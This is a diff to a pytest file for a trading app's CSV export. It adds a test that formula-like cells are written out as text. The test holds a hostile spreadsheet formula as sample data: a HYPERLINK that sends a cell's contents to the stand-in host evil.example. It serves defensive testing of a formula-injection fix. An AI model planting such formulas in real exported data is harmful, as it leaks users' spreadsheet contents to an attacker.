@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+from decimal import Decimal
 from typing import Any
 
 import pytest
@@ -122,6 +123,22 @@ def test_csv_export_has_every_trade_with_exact_decimals(client: Client) -> None:
     assert [row["event_id"] for row in rows] == [str(e.event.event_id) for e in reversed(envelopes)]
     assert rows[-1]["price"].rstrip("0").rstrip(".") == "42001"
     assert {row["bot_id"] for row in rows} == {"alpha"}
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_exported_as_text(client: Client) -> None:
+    # Issue 17, finding 6: free text from the exchange went into the CSV as is.
+    login(client, "cecil", can_control=False)
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    hostile = trade(1).model_copy(update={"seq": 1, "order_id": attack, "fee_currency": "@SUM(1+1)"})
+    loss = trade(2).model_copy(update={"seq": 2, "realized_profit": Decimal("-5.5"), "order_id": "+1"})
+    store([Envelope(epoch="e1", offset=f"{1000 + e.seq}-0", event=e) for e in (hostile, loss)])
+    rows = list(csv.DictReader(io.StringIO(client.get("/trades.csv").content.decode())))
+    by_seq = {row["seq"]: row for row in rows}
+    assert by_seq["1"]["order_id"] == "'" + attack
+    assert by_seq["1"]["fee_currency"] == "'@SUM(1+1)"
+    assert by_seq["2"]["order_id"] == "'+1"
+    assert by_seq["2"]["realized_profit"].startswith("-5.5")  # a number stays a number
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
 
 
 def test_history_and_export_require_login(client: Client) -> None:
